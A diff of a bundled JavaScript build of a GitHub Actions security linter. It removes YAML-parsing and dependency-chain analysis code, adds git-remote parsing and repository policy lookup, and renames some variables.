-      const more = index2 === MAX_REPORTED_YAML_ERRORS - 1 && errors.length > MAX_REPORTED_YAML_ERRORS ? ` (and ${errors.length - MAX_REPORTED_YAML_ERRORS} more YAML errors after this one, not shown)` : "";
-      this.problems.push({ code: error.code, message: firstLine(error.message) + more, span: { start, end } });
-    }
-    const root = this.doc.contents;
-    const map2 = root && isMap(root) ? root : null;
-    if (kind === "lockfile") {
-      try {
-        this.lockfile = readLockfile(this.doc.errors.length === 0 ? this.doc : null, text);
-      } catch (error) {
-        this.problems.push({ code: "internal-error", message: `Could not read the lock: ${String(error)}`, span: { start: 0, end: 0 } });
-      }
-      return;
-    }
-    if (!map2 && this.doc.errors.length === 0 && root !== null) {
-      const span = root.range ? { start: root.range[0], end: root.range[1] } : { start: 0, end: 0 };
-      this.problems.push({
-        code: "not-a-mapping",
-        message: "Expected a mapping of keys (such as `on:` and `jobs:`) at the top level.",
-        span
-      });
-    }
-    try {
-      if (kind === "workflow") this.workflow = new WorkflowView(map2, this.doc);
-      else if (kind === "action") this.action = new ActionView(map2, this.doc);
-      else this.dependabot = new DependabotView(map2, this.doc);
-      this.collectUses();
-    } catch (error) {
-      this.problems.push({
-        code: "internal-error",
-        message: `Could not read the document's structure: ${String(error)}`,
-        span: { start: 0, end: 0 }
-      });
-    }
-  }
-  uri;
-  kind;
-  text;
-  version;
-  lines;
-  problems = [];
-  doc = null;
-  workflow = null;
-  action = null;
-  dependabot = null;
-  /** The lock of a `lockfile` document (GitHub's actions.lock), with what its parser refuses. */
-  lockfile = null;
-  uses = [];
-  expressionSites = null;
-  /** True when the document came from re-parsing only the edited part of the previous version. */
-  incremental = false;
-  /** The latest version (this one or an earlier one) whose YAML parsed without errors: what the next version re-parses from. */
-  reparseBase = null;
-  /** Where per-file caches keep their entries (AttachedCache with `attachmentsOf`): the file's own shape never changes. */
-  attachments = {};
-  /** Every `${{ }}` in any scalar value of the document (computed on first use). */
-  get expressions() {
-    if (this.expressionSites) return this.expressionSites;
-    const sites = [];
-    const text = this.text;
-    const opens = [];
-    for (let at = text.indexOf("${{"); at !== -1; at = text.indexOf("${{", at + 1)) opens.push(at);
-    if (opens.length > 0) {
-      const contents = this.doc?.contents ?? null;
-      walkExpressionScalars(contents, opens, [], 0, (scalar, path) => {
-        const range = scalar.range;
-        if (!range || typeof scalar.value !== "string" || !scalar.value.includes("${{")) return;
-        for (const found of findExpressions(text, range[0], range[1])) {
-          const occurrence = scalar.type === "QUOTE_SINGLE" && found.text.includes("''") ? { ...found, text: found.text.replace(/''/g, "'"), parsed: parseExpression(found.text.replace(/''/g, "'")) } : found;
-          sites.push({ occurrence, scalar, path: [...path] });
-        }
-      });
-    }
-    this.expressionSites = sites;
-    return sites;
-  }
-  collectUses() {
-    const add = (entry, job, step) => {
-      if (!entry || !entry.value) return;
-      const value = typeof entry.value.value === "string" ? entry.value.value : null;
-      if (value === null) return;
-      const offset = valueOffsetInSource(entry.value, this.text);
-      this.uses.push({
-        entry,
-        value,
-        valueStart: offset ?? entry.valueSpan.start,
-        exact: offset !== null,
-        reference: parseUses(value),
-        job,
-        step
-      });
-    };
-    if (this.workflow) {
-      for (const job of this.workflow.jobs) {
-        add(job.uses, job, null);
-        for (const step of job.steps) add(step.uses, job, step);
-      }
-    }
-    if (this.action) for (const step of this.action.steps) add(step.uses, null, step);
-  }
-};
-function holdsOpen(opens, start, end) {
-  let low = 0;
-  let high = opens.length;
-  while (low < high) {
-    const mid = low + high >> 1;
-    if (opens[mid] < start) low = mid + 1;
-    else high = mid;
-  }
-  return low < opens.length && opens[low] + 3 <= end;
-}
-function walkExpressionScalars(node, opens, path, depth, visit3) {
-  if (!node || depth > 256) return;
-  const range = node.range;
-  if (range && !holdsOpen(opens, range[0], Math.max(range[1], range[2]))) return;
-  if (isScalar(node)) {
-    visit3(node, path);
-  } else if (isMap(node)) {
-    const items = node.items;
-    for (let i = 0; i < items.length; i++) {
-      const pair = items[i];
-      const key = pair.key;
-      if (key && isScalar(key)) {
-        const keyRange = key.range;
-        if (!keyRange || holdsOpen(opens, keyRange[0], Math.max(keyRange[1], keyRange[2]))) visit3(key, path);
-      }
-      path.push(scalarText(key) ?? "?");
-      walkExpressionScalars(pair.value, opens, path, depth + 1, visit3);
-      path.pop();
-    }
-  } else if (isSeq(node)) {
-    const items = node.items;
-    for (let i = 0; i < items.length; i++) {
-      path.push(i);
-      walkExpressionScalars(items[i], opens, path, depth + 1, visit3);
-      path.pop();
-    }
-  }
-}
-function firstLine(message) {
-  return message.split("\n")[0].replace(/ at line \d+, column \d+:?$/, "");
-}
-function parseFile(uri, kind, text, version2 = 0) {
-  return new ParsedFile(uri, kind, text, version2);
-}
-
 // server/src/config/find-config.ts
 var OUR_CONFIG_FILES = [".github/actions-warden.yml", ".github/actions-warden.yaml", "actions-warden.yml", "actions-warden.yaml"];
 var ZIZMOR_CONFIG_FILES = ["zizmor.yml", "zizmor.yaml", ".github/zizmor.yml", ".github/zizmor.yaml"];
@@ -22365,297 +23447,6 @@ function relativeTo(root, path) {
   const rel = (0, import_node_path3.relative)(root, path);
   const normalized = import_node_path3.sep === "/" ? rel : rel.split(import_node_path3.sep).join("/");
   return normalized === "" || normalized.startsWith("..") ? path.replace(/\\/g, "/") : normalized;
-}
-
-// server/src/dependencies/walk.ts
-var DEFAULT_MAX_DEPTH = 5;
-var DEFAULT_MAX_FILES = 200;
-var MAX_USES_PER_FILE = 100;
-var DependencyGraph = class {
-  /** `owner/repo@ref` (owner and repository lower-cased) → full commit SHA. */
-  commits = /* @__PURE__ */ new Map();
-  /** `owner/repo|path|commit` (lower-cased) → the fetched action or workflow. */
-  actions = /* @__PURE__ */ new Map();
-  /** Same keys → why it could not be fetched. */
-  failures = /* @__PURE__ */ new Map();
-  /** Sentences saying where the walk stopped (depth, file budget). */
-  stopped = [];
-  /** Files read (or found in the cache) during the walk. */
-  filesRead = 0;
-  /** Per-graph memo of the findings of each dependency (see chain.ts). */
-  memo = /* @__PURE__ */ new Map();
-  action(owner, repo, path, commit) {
-    const key = actionKey(owner, repo, path, commit);
-    const found = this.actions.get(key);
-    if (found) return available(found);
-    const failure = this.failures.get(key);
-    return failure === void 0 ? unavailable("not-fetched") : unavailable("failed", failure);
-  }
-  commitOf(owner, repo, ref2) {
-    if (FULL_SHA_RE.test(ref2)) return ref2.toLowerCase();
-    return this.commits.get(refKey(owner, repo, ref2));
-  }
-};
-function actionKey(owner, repo, path, commit) {
-  return `${owner}/${repo}|${path}|${commit}`.toLowerCase();
-}
-function refKey(owner, repo, ref2) {
-  return `${owner.toLowerCase()}/${repo.toLowerCase()}@${ref2}`;
-}
-function usesPath(uses) {
-  let path = uses.subpath ?? "";
-  while (path.endsWith("/")) path = path.slice(0, -1);
-  return path;
-}
-function isWorkflowPath2(path) {
-  return /^\.github\/workflows\/[^/]+\.ya?ml$/.test(path);
-}
-async function walkDependencies(data, usesValues, options = {}) {
-  const graph = new DependencyGraph();
-  const maxDepth = Math.max(1, options.maxDepth ?? DEFAULT_MAX_DEPTH);
-  const maxFiles = Math.max(1, options.maxFiles ?? DEFAULT_MAX_FILES);
-  const server = data.resolver.http?.server;
-  const serverUrl = options.serverUrl ?? (server ? `${server.origin}${trimEndOf(server.pathname, "/")}` : "https://github.com");
-  const seen = /* @__PURE__ */ new Set();
-  let level = usesValues.map(lockableUses).filter((uses) => uses !== null);
-  let budgetNoted = false;
-  const maxLookups = maxFiles * 2;
-  let lookups = 0;
-  const overBudget = (key, what) => {
-    if (!budgetNoted) graph.stopped.push(`more than ${what}: the rest of the chain was not followed`);
-    budgetNoted = true;
-    graph.failures.set(key, `not read: the walk stops after ${what}`);
-  };
-  for (let depth = 1; level.length > 0; depth++) {
-    const todo = [];
-    for (const uses of level) {
-      const id = `${uses.owner}/${uses.repo}|${usesPath(uses)}|${uses.ref}`.toLowerCase();
-      if (seen.has(id)) continue;
-      seen.add(id);
-      todo.push(uses);
-    }
-    if (todo.length === 0) break;
-    if (depth > maxDepth) {
-      graph.stopped.push(
-        `the dependency chain is deeper than ${maxDepth} levels at ${todo.map((u) => `${u.owner}/${u.repo}@${u.ref}`).join(", ")}: it was not followed further`
-      );
-      break;
-    }
-    const next = [];
-    await Promise.all(
-      todo.map(async (uses) => {
-        if (!FULL_SHA_RE.test(uses.ref) && !graph.commits.has(refKey(uses.owner, uses.repo, uses.ref))) {
-          if (lookups >= maxLookups) {
-            overBudget(`${uses.owner}/${uses.repo}@${uses.ref}`.toLowerCase(), `${maxLookups} ref look-ups`);
-            return;
-          }
-          lookups++;
-        }
-        const commit = await resolveCommit(data, graph, uses);
-        if (commit === null) return;
-        const path = usesPath(uses);
-        const key = actionKey(uses.owner, uses.repo, path, commit);
-        if (graph.actions.has(key) || graph.failures.has(key)) return;
-        if (graph.filesRead >= maxFiles) {
-          if (!budgetNoted) graph.stopped.push(`more than ${maxFiles} dependency files: the rest of the chain was not followed`);
-          budgetNoted = true;
-          graph.failures.set(key, `not read: the walk reads at most ${maxFiles} files`);
-          return;
-        }
-        const fetched = await fetchAction(data, uses, path, commit, serverUrl, graph, maxFiles);
-        if (!fetched.ok) {
-          graph.failures.set(key, fetched.message);
-          return;
-        }
-        graph.actions.set(key, fetched.action);
-        const inner = remoteUsesIn(fetched.action.file.text, fetched.action.file.kind === "workflow" ? "workflow" : "action");
-        if (inner.length > MAX_USES_PER_FILE)
-          graph.stopped.push(
-            `${uses.owner}/${uses.repo}${path ? `/${path}` : ""}@${commit.slice(0, 12)} names ${inner.length} actions: only the first ${MAX_USES_PER_FILE} were followed`
-          );
-        next.push(...inner.slice(0, MAX_USES_PER_FILE));
-      })
-    );
-    level = next.map(lockableUses).filter((uses) => uses !== null);
-  }
-  return graph;
-}
-async function resolveCommit(data, graph, uses) {
-  const ref2 = uses.ref;
-  if (FULL_SHA_RE.test(ref2)) return ref2.toLowerCase();
-  const key = refKey(uses.owner, uses.repo, ref2);
-  const known = graph.commits.get(key);
-  if (known) return known;
-  const resolved = await data.resolver.resolveRef(uses.owner, uses.repo, ref2);
-  if (!resolved.ok || !FULL_SHA_RE.test(resolved.value.commit)) return null;
-  graph.commits.set(key, resolved.value.commit.toLowerCase());
-  return resolved.value.commit.toLowerCase();
-}
-async function fetchAction(data, uses, path, commit, serverUrl, graph, maxFiles) {
-  const { owner, repo } = uses;
-  const workflow = isWorkflowPath2(path);
-  const candidates = workflow ? [path] : ["action.yml", "action.yaml"].map((name) => path === "" ? name : `${path}/${name}`);
-  for (const fileName of candidates) {
-    if (graph.filesRead >= maxFiles) return { ok: false, message: `not read: the walk reads at most ${maxFiles} files` };
-    graph.filesRead++;
-    const read = await readFileAtCommit(data, owner, repo, commit, fileName);
-    if (read.ok) {
-      const file = parseFile(`${owner}/${repo}/${fileName}@${commit}`, workflow ? "workflow" : "action", read.value.text);
-      const url = `${serverUrl}/${encodeURIComponent(owner)}/${encodeURIComponent(repo)}/blob/${commit}/${fileName.split("/").map(encodeURIComponent).join("/")}`;
-      return { ok: true, action: { owner, repo, path, commit, file, fileName, url } };
-    }
-    if (read.error.kind !== "not-found") return { ok: false, message: read.error.message };
-  }
-  return {
-    ok: false,
-    message: `${owner}/${repo}${path ? `/${path}` : ""} has no ${workflow ? path : "action.yml or action.yaml"} at ${commit.slice(0, 12)}`
-  };
-}
-
-// server/src/dependencies/chain.ts
-var CHAINED_RULES = /* @__PURE__ */ new Set([
-  "unpinned-uses",
-  "template-injection",
-  "unpinned-images",
-  "unverified-download",
-  "known-vulnerable-actions",
-  "archived-uses",
-  "insecure-commands",
-  "typosquat-uses"
-]);
-var ChainView = class {
-  constructor(base2, stack) {
-    this.base = base2;
-    this.stack = stack;
-  }
-  base;
-  stack;
-  action(owner, repo, path, commit) {
-    if (this.stack.has(actionKey(owner, repo, path, commit))) return { available: false, reason: "not-fetched" };
-    return this.base.action(owner, repo, path, commit);
-  }
-  commitOf(owner, repo, ref2) {
-    return this.base.commitOf?.(owner, repo, ref2);
-  }
-};
-function rootOf(view) {
-  return view instanceof ChainView ? { base: view.base, stack: view.stack } : { base: view, stack: /* @__PURE__ */ new Set() };
-}
-function resolvedSites(file, view) {
-  const out = [];
-  for (const site of file.uses) {
-    const uses = lockableUses(site.value);
-    if (!uses) continue;
-    const commit = view.commitOf?.(uses.owner, uses.repo, uses.ref);
-    if (!commit) continue;
-    const fetched = view.action(uses.owner, uses.repo, usesPath(uses), commit);
-    if (fetched.available) out.push({ site, uses: site.value, action: fetched.value });
-  }
-  return out;
-}
-function where(action, line) {
-  const path = action.path && !action.fileName?.startsWith(`${action.path}/`) && action.fileName !== action.path ? `/${action.path}` : "";
-  const name = action.fileName ?? "action.yml";
-  return `${action.owner}/${action.repo}${path}@${action.commit.slice(0, 12)} ${name}:${line + 1}`;
-}
-function usesSpan(site) {
-  return site.entry.valueSpan;
-}
-function dependencyFindings(file, view, analyzeDependency2) {
-  const { base: base2, stack } = rootOf(view);
-  const findings2 = [];
-  for (const { site, action } of resolvedSites(file, view)) {
-    const key = actionKey(action.owner, action.repo, action.path, action.commit);
-    const inner = analyzeDependency2(action.file, new ChainView(base2, /* @__PURE__ */ new Set([...stack, key])));
-    const span = usesSpan(site);
-    const range = file.lines.range(span);
-    for (const found of inner) {
-      if (!CHAINED_RULES.has(found.ruleId)) continue;
-      if (found.ruleId === "template-injection" && expandsOnlyInputs(action.file, found)) continue;
-      const at = where(action, found.range.start.line);
-      findings2.push({
-        ruleId: found.ruleId,
-        severity: found.severity,
-        confidence: found.confidence,
-        persona: found.persona,
-        message: `via ${at}: ${found.message}`,
-        span,
-        range,
-        related: [
-          { span: found.span, range: found.range, message: `${found.ruleId} in ${at}`, ...action.url ? { uri: action.url } : {} }
-        ],
-        fixes: []
-      });
-    }
-    findings2.push(...inputTaint(file, site, action));
-  }
-  return findings2;
-}
-function expandsOnlyInputs(file, finding) {
-  const text = file.text.slice(finding.span.start, finding.span.end).trim();
-  return /^(\$\{\{\s*)?inputs\.[A-Za-z0-9_-]+(\s*\}\})?$/.test(text);
-}
-function inputsIntoRun(action) {
-  const out = /* @__PURE__ */ new Map();
-  if (action.file.kind !== "action") return out;
-  for (const site of action.file.expressions) {
-    const path = site.path;
-    if (path.length !== 4 || path[0] !== "runs" || path[1] !== "steps" || path[3] !== "run") continue;
-    const single = singleContext(site);
-    if (!single) continue;
-    const parts = single.path.split(".");
-    if (parts.length !== 2 || parts[0] !== "inputs") continue;
-    const name = parts[1].toLowerCase();
-    if (out.has(name)) continue;
-    const span = { start: site.occurrence.start, end: site.occurrence.end };
-    out.set(name, { span, line: action.file.lines.range(span).start.line });
-  }
-  return out;
-}
-function inputTaint(file, site, action) {
-  const sinks = inputsIntoRun(action);
-  if (sinks.size === 0 || !site.step) return [];
-  const entries = /* @__PURE__ */ new Map();
-  for (const entry of site.step.with.entries) if (entry.value) entries.set(entry.value, entry);
-  if (entries.size === 0) return [];
-  const findings2 = [];
-  for (const expression of file.expressions) {
-    const entry = entries.get(expression.scalar);
-    if (!entry) continue;
-    const sink = sinks.get(entry.key.toLowerCase());
-    if (!sink) continue;
-    let verdict2 = null;
-    let leaf = null;
-    for (const found of assessSite(expression, scopeOf(file, expression.path))) {
-      const best = stronger(verdict2, found.verdict);
-      if (best !== verdict2) {
-        verdict2 = best;
-        leaf = found;
-      }
-    }
-    if (!verdict2 || !leaf || verdict2.capability === "fixed") continue;
-    const at = where(action, sink.line);
-    const span = { start: expression.occurrence.start, end: expression.occurrence.end };
-    findings2.push({
-      ruleId: "template-injection",
-      severity: verdict2.severity,
-      confidence: verdict2.confidence,
-      persona: verdict2.persona,
-      message: `\`${leaf.path}\` (${verdict2.reason}) is passed as \`${entry.key}\` to ${site.value}, which expands \`inputs.${entry.key}\` into a \`run:\` script (via ${at})`,
-      span,
-      range: file.lines.range(span),
-      related: [
-        {
-          span: sink.span,
-          range: action.file.lines.range(sink.span),
-          message: `\`inputs.${entry.key}\` expanded into a run: script in ${at}`,
-          ...action.url ? { uri: action.url } : {}
-        }
-      ],
-      fixes: []
-    });
-  }
-  return findings2;
 }
 
 // server/src/rules/support/dead-code.ts
@@ -22944,17 +23735,19 @@ function analysisViews(file, options) {
     online: given.online ?? onlineView(snapshotOf(file)),
     workspace: given.workspace ?? NO_VIEWS.workspace,
     dependencies: given.dependencies ?? NO_VIEWS.dependencies,
-    lock: given.lock ?? NO_VIEWS.lock
+    lock: given.lock ?? NO_VIEWS.lock,
+    policy: given.policy ?? NO_VIEWS.policy
   };
 }
 var NOT_DECLARED = unavailable("not-declared");
 function declaredViews(rule, views) {
-  const reads = rule.reads ?? [];
+  const reads2 = rule.reads ?? [];
   return {
-    online: rule.online || reads.includes("online") ? views.online : NOT_DECLARED,
-    workspace: reads.includes("workspace") ? views.workspace : NOT_DECLARED,
-    dependencies: reads.includes("dependencies") ? views.dependencies : NOT_DECLARED,
-    lock: reads.includes("lock") ? views.lock : NOT_DECLARED
+    online: rule.online || reads2.includes("online") ? views.online : NOT_DECLARED,
+    workspace: reads2.includes("workspace") ? views.workspace : NOT_DECLARED,
+    dependencies: reads2.includes("dependencies") ? views.dependencies : NOT_DECLARED,
+    lock: reads2.includes("lock") ? views.lock : NOT_DECLARED,
+    policy: reads2.includes("policy") ? views.policy : NOT_DECLARED
   };
 }
 function analyze(file, options = DEFAULT_ANALYSIS_OPTIONS) {
@@ -22964,22 +23757,22 @@ function analyze(file, options = DEFAULT_ANALYSIS_OPTIONS) {
 function* analysisSteps(file, options) {
   if (file.kind === "unknown") return [];
   const findings2 = [];
-  const toFinding = (rule, report2) => {
-    const finding = buildFinding(rule, report2);
-    return typeof report2.fixes === "function" ? withLazyFixes(finding, report2.fixes) : finding;
+  const toFinding = (rule, report4) => {
+    const finding = buildFinding(rule, report4);
+    return typeof report4.fixes === "function" ? withLazyFixes(finding, report4.fixes) : finding;
   };
-  const buildFinding = (rule, report2) => ({
+  const buildFinding = (rule, report4) => ({
     ruleId: rule.id,
-    severity: report2.severity ?? rule.severity,
-    confidence: report2.confidence ?? rule.confidence,
-    persona: report2.persona ?? rule.persona,
-    message: report2.message,
-    span: report2.span,
-    range: file.lines.range(report2.span),
-    related: (report2.related ?? []).map(
+    severity: report4.severity ?? rule.severity,
+    confidence: report4.confidence ?? rule.confidence,
+    persona: report4.persona ?? rule.persona,
+    message: report4.message,
+    span: report4.span,
+    range: file.lines.range(report4.span),
+    related: (report4.related ?? []).map(
       (related2) => related2.file ? { span: related2.span, range: related2.file.lines.range(related2.span), message: related2.message, uri: related2.file.uri } : { span: related2.span, range: file.lines.range(related2.span), message: related2.message }
     ),
-    fixes: typeof report2.fixes === "function" ? [] : report2.fixes ?? []
+    fixes: typeof report4.fixes === "function" ? [] : report4.fixes ?? []
   });
   for (const problem of file.problems) {
     if (problem.code === INTERNAL_ERROR_RULE) {
@@ -22999,8 +23792,8 @@ function* analysisSteps(file, options) {
     file,
     config: NO_CONFIG,
     ...NO_VIEWS,
-    report: (report2) => {
-      if (current) findings2.push(toFinding(current, report2));
+    report: (report4) => {
+      if (current) findings2.push(toFinding(current, report4));
     }
   };
   for (const rule of options.rules ?? RULES) {
@@ -23045,8 +23838,8 @@ function* analysisSteps(file, options) {
     const ran = new Set(
       (options.rules ?? RULES).filter((rule) => rule.kinds.includes(file.kind) && !options.disabledRules.has(rule.id)).map((rule) => rule.id)
     );
-    for (const report2 of unusedIgnores(file, ignores, ran)) {
-      const finding = toFinding(builtIn(UNUSED_IGNORE_RULE), report2);
+    for (const report4 of unusedIgnores(file, ignores, ran)) {
+      const finding = toFinding(builtIn(UNUSED_IGNORE_RULE), report4);
       const final = options.adjust ? options.adjust(finding) : finding;
       if (final && !hide(final)) kept.push(final);
     }
@@ -23068,11 +23861,11 @@ var DEPENDENCY_OPTIONS = {
 };
 var dependencyMemo = /* @__PURE__ */ new WeakMap();
 function analyzeDependency(file, view) {
-  let found = dependencyMemo.get(file);
-  if (!found) {
-    found = analyze(file, { ...DEPENDENCY_OPTIONS, views: { dependencies: { available: true, value: view } } });
-    dependencyMemo.set(file, found);
-  }
+  const snapshot = snapshotOf(file);
+  const memo2 = dependencyMemo.get(file);
+  if (memo2 && memo2.snapshot === snapshot) return memo2.found;
+  const found = analyze(file, { ...DEPENDENCY_OPTIONS, views: { dependencies: { available: true, value: view } } });
+  dependencyMemo.set(file, { snapshot, found });
   return found;
 }
 var MAX_JUSTIFICATION_LENGTH = 500;
@@ -24948,7 +25741,7 @@ function originOf(raw) {
     return null;
   }
 }
-function hostOf(raw) {
+function hostOf2(raw) {
   try {
     return new URL(raw.trim()).host.toLowerCase();
   } catch {
@@ -24958,7 +25751,7 @@ function hostOf(raw) {
 function refusedRepositoryHosts(config, choice) {
   const problems = [];
   const chosen = new Set([originOf(choice.serverUrl), originOf(choice.apiUrl)].filter((origin) => origin !== null));
-  const chosenHosts = /* @__PURE__ */ new Set([hostOf(choice.serverUrl), hostOf(choice.apiUrl), "github.com", "api.github.com"]);
+  const chosenHosts = /* @__PURE__ */ new Set([hostOf2(choice.serverUrl), hostOf2(choice.apiUrl), "github.com", "api.github.com"]);
   const using = choice.source === "the default" ? `public GitHub (${choice.serverUrl})` : `${displayUrl(choice.serverUrl)} (from ${choice.source})`;
   const why = (what, shown2, flag) => `\`${what}\` names ${shown2}, which you have not chosen: a repository's configuration cannot decide where your GitHub token is sent, so nothing is sent there and online checks use ${using}. To use this host, confirm it with \`${flag}\` (or GITHUB_SERVER_URL / GITHUB_API_URL, or your user configuration).`;
   const check = (what, value, span, flag) => {
@@ -25546,7 +26339,7 @@ var HttpClient = class _HttpClient {
       this.active++;
       return Promise.resolve();
     }
-    return new Promise((resolve3) => this.queue.push(() => resolve3()));
+    return new Promise((resolve4) => this.queue.push(() => resolve4()));
   }
   release() {
     const next = this.queue.shift();
@@ -25948,10 +26741,187 @@ async function cliOnlineSnapshot(hosts, env, targets3, warn2, resolverOptions = 
   return snapshot;
 }
 
-// server/src/resolve/repo-tree.ts
-var import_node_crypto4 = require("node:crypto");
+// server/src/workspace/git-remote.ts
 var import_node_fs10 = require("node:fs");
 var import_node_path10 = require("node:path");
+var MAX_GIT_FILE_BYTES = 64 * 1024;
+function gitRemotes(text) {
+  const remotes = [];
+  const seen = /* @__PURE__ */ new Set();
+  let section = null;
+  let start = 0;
+  while (start <= text.length) {
+    let end = text.indexOf("\n", start);
+    if (end === -1) end = text.length;
+    const line = text.slice(start, end).trim();
+    start = end + 1;
+    if (line === "" || line[0] === "#" || line[0] === ";") continue;
+    if (line[0] === "[") {
+      section = remoteSection(line);
+      continue;
+    }
+    if (section === null || seen.has(section)) continue;
+    const equals = line.indexOf("=");
+    if (equals === -1) continue;
+    if (line.slice(0, equals).trim().toLowerCase() !== "url") continue;
+    const value = configValue(line.slice(equals + 1));
+    if (value === "") continue;
+    seen.add(section);
+    remotes.push({ name: section, url: value });
+  }
+  return remotes;
+}
+function remoteSection(line) {
+  const close = line.indexOf("]");
+  if (close === -1) return null;
+  const inner = line.slice(1, close).trim();
+  const space = inner.indexOf(" ");
+  if (space === -1 || inner.slice(0, space).toLowerCase() !== "remote") return null;
+  const name = inner.slice(space + 1).trim();
+  if (name.length < 2 || name[0] !== '"' || name[name.length - 1] !== '"') return null;
+  return name.slice(1, -1);
+}
+function configValue(raw) {
+  let out = "";
+  let quoted = false;
+  for (let index2 = 0; index2 < raw.length; index2++) {
+    const char = raw[index2];
+    if (char === '"') quoted = !quoted;
+    else if (!quoted && (char === "#" || char === ";")) break;
+    else if (char === "\\" && index2 + 1 < raw.length) out += raw[++index2];
+    else out += char;
+  }
+  return out.trim();
+}
+function remoteRepository(url, host) {
+  const text = url.trim();
+  let urlHost;
+  let path;
+  const scheme = text.indexOf("://");
+  if (scheme !== -1) {
+    const protocol = text.slice(0, scheme).toLowerCase();
+    if (protocol !== "https" && protocol !== "http" && protocol !== "ssh" && protocol !== "git" && protocol !== "git+ssh") return null;
+    const rest = text.slice(scheme + 3);
+    const slash = rest.indexOf("/");
+    if (slash === -1) return null;
+    const authority = rest.slice(0, slash);
+    const at = authority.lastIndexOf("@");
+    const hostPort = authority.slice(at + 1).toLowerCase();
+    urlHost = protocol === "https" || protocol === "http" ? hostPort : stripPort(hostPort);
+    path = rest.slice(slash + 1);
+  } else {
+    const colon = text.indexOf(":");
+    if (colon === -1 || text.slice(0, colon).includes("/")) return null;
+    urlHost = text.slice(text.lastIndexOf("@", colon) + 1, colon).toLowerCase();
+    path = text.slice(colon + 1);
+  }
+  if (urlHost === "") return null;
+  const wanted = host.toLowerCase();
+  if (urlHost !== wanted && stripPort(urlHost) !== wanted) return { otherHost: urlHost };
+  const segments = path.replace(/^\/+/, "").split("/").filter((segment) => segment !== "");
+  if (segments.length !== 2) return null;
+  const owner = segments[0];
+  const repo = segments[1].endsWith(".git") ? segments[1].slice(0, -4) : segments[1];
+  return isValidRepoName(owner, repo) ? { owner, repo } : null;
+}
+function stripPort(host) {
+  const colon = host.lastIndexOf(":");
+  return colon === -1 || host.endsWith("]") ? host : host.slice(0, colon);
+}
+function chooseRemote(remotes) {
+  return remotes.find((remote) => remote.name === "origin") ?? remotes[0];
+}
+function repositoryFromConfig(text, host) {
+  const remote = chooseRemote(gitRemotes(text));
+  if (!remote) return { kind: "none", reason: "the git configuration names no remote" };
+  const found = remoteRepository(remote.url, host);
+  if (found === null) return { kind: "none", reason: `the URL of the remote \`${remote.name}\` does not name a repository` };
+  if ("otherHost" in found) return { kind: "other-host", host: found.otherHost, remote: remote.name };
+  return { kind: "github", owner: found.owner, repo: found.repo, remote: remote.name };
+}
+function readSmall(path) {
+  let fd;
+  try {
+    if (!(0, import_node_fs10.statSync)(path).isFile()) return null;
+    fd = (0, import_node_fs10.openSync)(path, "r");
+    const buffer = Buffer.alloc(MAX_GIT_FILE_BYTES);
+    const read = (0, import_node_fs10.readSync)(fd, buffer, 0, MAX_GIT_FILE_BYTES, 0);
+    return buffer.subarray(0, read).toString("utf8");
+  } catch {
+    return null;
+  } finally {
+    if (fd !== void 0) (0, import_node_fs10.closeSync)(fd);
+  }
+}
+function gitConfigText(root) {
+  const dotGit = (0, import_node_path10.join)(root, ".git");
+  let gitDir;
+  try {
+    const stat = (0, import_node_fs10.statSync)(dotGit);
+    if (stat.isDirectory()) gitDir = dotGit;
+    else if (stat.isFile()) {
+      const pointer = readSmall(dotGit);
+      const line = pointer?.split("\n").find((entry) => entry.startsWith("gitdir:"));
+      if (!line) return null;
+      const target = line.slice("gitdir:".length).trim();
+      gitDir = (0, import_node_path10.isAbsolute)(target) ? target : (0, import_node_path10.resolve)((0, import_node_path10.dirname)(dotGit), target);
+    } else return null;
+  } catch {
+    return null;
+  }
+  const own = readSmall((0, import_node_path10.join)(gitDir, "config"));
+  if (own !== null) return own;
+  const common = readSmall((0, import_node_path10.join)(gitDir, "commondir"))?.split("\n")[0]?.trim();
+  if (!common) return null;
+  return readSmall((0, import_node_path10.join)((0, import_node_path10.isAbsolute)(common) ? common : (0, import_node_path10.resolve)(gitDir, common), "config"));
+}
+function repositoryOfCheckout(root, host) {
+  const text = gitConfigText(root);
+  if (text === null) return { kind: "none", reason: "no git configuration was found" };
+  return repositoryFromConfig(text, host);
+}
+
+// server/src/cli/policy.ts
+async function cliRepositoryPolicies(hosts, token, targets3, configuredRepository, note) {
+  const out = /* @__PURE__ */ new Map();
+  if (!token) return out;
+  const created = HttpClient.create({ serverUrl: hosts.serverUrl, apiUrl: hosts.apiUrl, token });
+  if (!created.ok) return out;
+  const http = created.value;
+  const host = http.server.host.toLowerCase();
+  const cache3 = new PolicyCache();
+  const byRoot = /* @__PURE__ */ new Map();
+  const said = /* @__PURE__ */ new Set();
+  for (const target of targets3) {
+    if (target.virtual || target.root === "") continue;
+    let repository = configuredRepository(target) ?? null;
+    if (repository === null) {
+      if (!byRoot.has(target.root)) {
+        const remote = repositoryOfCheckout(target.root, host);
+        byRoot.set(target.root, remote.kind === "github" ? `${remote.owner}/${remote.repo}` : null);
+        if (remote.kind === "other-host")
+          note(
+            `the git remote \`${remote.remote}\` of ${target.rootPath} is on ${remote.host}, not on the GitHub host ${host}: its Actions settings are not read`
+          );
+      }
+      repository = byRoot.get(target.root) ?? null;
+    }
+    const parts = repository === null ? null : parseRepository(repository);
+    if (!parts || repository === null) continue;
+    const answer = await cache3.get(http, parts.owner, parts.repo);
+    if ("policy" in answer) out.set(target, answer.policy);
+    else if (!said.has(repository.toLowerCase())) {
+      said.add(repository.toLowerCase());
+      note(unavailableSentence(repository, answer));
+    }
+  }
+  return out;
+}
+
+// server/src/resolve/repo-tree.ts
+var import_node_crypto4 = require("node:crypto");
+var import_node_fs11 = require("node:fs");
+var import_node_path11 = require("node:path");
 var JSON_HEADERS = { Accept: "application/vnd.github+json", "X-GitHub-Api-Version": "2022-11-28" };
 var OBJECT_SHA_RE = /^[0-9a-f]{40}$/;
 var MAX_TREE_PATH = 4096;
@@ -26031,12 +27001,12 @@ async function gitBlob(http, owner, repo, sha) {
 var BlobCache = class {
   folder;
   constructor(dir, apiOrigin) {
-    this.folder = dir ? (0, import_node_path10.join)(dir, "blobs", (0, import_node_crypto4.createHash)("sha256").update(apiOrigin).digest("hex").slice(0, 16)) : null;
+    this.folder = dir ? (0, import_node_path11.join)(dir, "blobs", (0, import_node_crypto4.createHash)("sha256").update(apiOrigin).digest("hex").slice(0, 16)) : null;
   }
   get(sha) {
     if (!this.folder || !OBJECT_SHA_RE.test(sha)) return void 0;
     try {
-      const bytes = (0, import_node_fs10.readFileSync)((0, import_node_path10.join)(this.folder, sha));
+      const bytes = (0, import_node_fs11.readFileSync)((0, import_node_path11.join)(this.folder, sha));
       return sha.length !== 40 || gitBlobSha1(bytes) === sha ? bytes : void 0;
